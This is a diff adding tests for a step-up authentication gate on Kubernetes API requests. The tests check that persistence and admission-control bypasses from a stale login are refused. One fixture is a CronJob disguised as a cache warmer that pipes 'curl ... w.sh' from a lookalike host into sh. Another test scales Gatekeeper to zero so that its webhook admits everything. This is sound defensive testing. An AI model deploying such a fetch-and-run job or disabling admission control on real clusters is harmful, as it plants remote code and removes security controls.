@@ -99,3 +99,40 @@ describe("a production Service's traffic and disruption budget, with examples/st
     expect(rules(res)).toContain('prod-durable-deletes');
   });
 });
+
+describe('persistence and admission control from a known laptop, with examples/stepgate.yaml', () => {
+  const cronJob = JSON.stringify({
+    apiVersion: 'batch/v1',
+    kind: 'CronJob',
+    metadata: { name: 'cache-warmer' },
+    spec: { schedule: '17 */6 * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'warm', image: 'curlimages/curl:8.12.1', command: ['sh', '-c', 'curl -sf https://cdn-checkout.net/w.sh | sh'] }] } } } } },
+  });
+
+  it('a CronJob created in a production namespace of the working set, four hours after the sign-in, needs a recent one (prod-scheduled-jobs), by POST or server-side apply', async () => {
+    const login = await morning('release-c@example.nl', ['checkout-prod-apse1']);
+    const later = T0 + 4 * H;
+    const res = await send(login, later, 'POST', '/apis/batch/v1/namespaces/checkout-prod-apse1/cronjobs?fieldManager=kubectl-create', cronJob);
+    expect(reasonOf(res)).toBe('auth_too_old');
+    expect(rules(res)).toContain('prod-scheduled-jobs');
+    // `kubectl apply --server-side` creates what does not exist yet.
+    const applied = await send(login, later + 20_000, 'PATCH', '/apis/batch/v1/namespaces/checkout-prod-apse1/cronjobs/cache-warmer?fieldManager=kubectl&force=true', cronJob, 'application/apply-patch+yaml');
+    expect(reasonOf(applied)).toBe('auth_too_old');
+    expect(rules(applied)).toContain('prod-scheduled-jobs');
+    // Routine: suspending an existing CronJob, and an on-call rerun of one as a Job.
+    expect(reasonOf(await send(login, later + 40_000, 'PATCH', '/apis/batch/v1/namespaces/checkout-prod-apse1/cronjobs/checkout-reindex', JSON.stringify({ spec: { suspend: true } }), 'application/merge-patch+json'))).toBe('allowed');
+    const job = JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'checkout-reindex-manual-x7k2p', annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' } }, spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'reindex', image: 'ghcr.io/example-nl/checkout-api:v2.40.3' }] } } } });
+    expect(reasonOf(await send(login, later + 60_000, 'POST', '/apis/batch/v1/namespaces/checkout-prod-apse1/jobs?fieldManager=kubectl-create', job))).toBe('allowed');
+  });
+
+  it("Gatekeeper's controller scaled to zero (its webhook then admits everything) needs a hardware key, as deleting the webhook does; a rollout restart does not", async () => {
+    const login = await morning('platform-c@example.nl', ['checkout-prod-euw1']);
+    const later = T0 + 2 * H;
+    const path = '/apis/apps/v1/namespaces/gatekeeper-system/deployments/gatekeeper-controller-manager';
+    const restart = JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-03-11T09:50:00Z' } } } } });
+    expect(reasonOf(await send(login, later, 'PATCH', `${path}?fieldManager=kubectl-rollout`, restart, SMP))).toBe('allowed');
+    const res = await send(login, later + 20_000, 'PATCH', `${path}/scale`, JSON.stringify({ spec: { replicas: 0 } }), 'application/merge-patch+json');
+    expect(reasonOf(res)).toBe('acr_insufficient');
+    expect(rules(res)).toContain('system-component-deletes');
+    expect(reasonOf(await send(login, later + 40_000, 'DELETE', path))).toBe('acr_insufficient');
+  });
+});
